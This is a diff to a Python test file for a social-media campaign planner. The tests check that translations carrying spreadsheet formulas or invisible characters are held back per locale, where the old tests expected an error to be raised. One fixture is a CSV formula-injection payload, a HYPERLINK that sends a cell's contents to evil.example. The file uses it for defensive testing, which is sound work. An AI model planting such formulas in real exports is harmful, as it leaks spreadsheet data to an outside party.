@@ -22,6 +22,7 @@ from outreach.export import (
     formula_trigger,
     plan_posts,
 )
+from outreach.render import Renderer
 
 EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Firma") %(url)s %(hashtag)s'
 # A formula with no link, mention or hidden character: the translation checks pass it, and
@@ -227,9 +228,10 @@ def test_a_translation_with_a_hidden_character_is_refused_before_any_format(
 ) -> None:
     hidden = "\u200b\u2060=1+1 %(url)s %(hashtag)s"
     root = make_campaign(tmp_path, translations={"es": {"share": hidden}})
-    with pytest.raises(ProblemsFound) as caught:
-        _plan(root, every="1d", stagger="10m", messages=["share"])
-    problems = [str(p) for p in caught.value.problems]
+    renderer = Renderer(load_campaign(root))
+    posts = _plan(root, every="1d", stagger="10m", messages=["share"], renderer=renderer)
+    assert posts and all(p.post.locale != "es" for p in posts)  # held: every other planned
+    problems = renderer.held_back["es"].lines
     assert any("invisible: U+200B ZERO WIDTH SPACE is not in the source" in p for p in problems)
 
 
@@ -246,11 +248,11 @@ def test_a_formula_bearing_translation_never_reaches_a_csv_cell(tmp_path: Path, 
 
 def test_a_formula_with_a_hijacked_link_is_refused_before_any_format(tmp_path: Path) -> None:
     root = make_campaign(tmp_path, translations={"es": {"share": EVIL}})
-    with pytest.raises(ProblemsFound) as caught:
-        _plan(root, every="1d", stagger="10m")
-    problems = [str(p) for p in caught.value.problems]
+    renderer = Renderer(load_campaign(root))
+    posts = _plan(root, every="1d", stagger="10m", renderer=renderer)
+    assert all((p.post.message, p.post.locale) != ("share", "es") for p in posts)
+    problems = renderer.held_back["es"].lines
     assert any("urls: link https://evil.example/" in p and "link hijack" in p for p in problems)
-    assert problems[-1].endswith("their posts would go out in the fallback language")
 
 
 def test_a_leading_mention_is_refused_not_altered(tmp_path: Path) -> None:
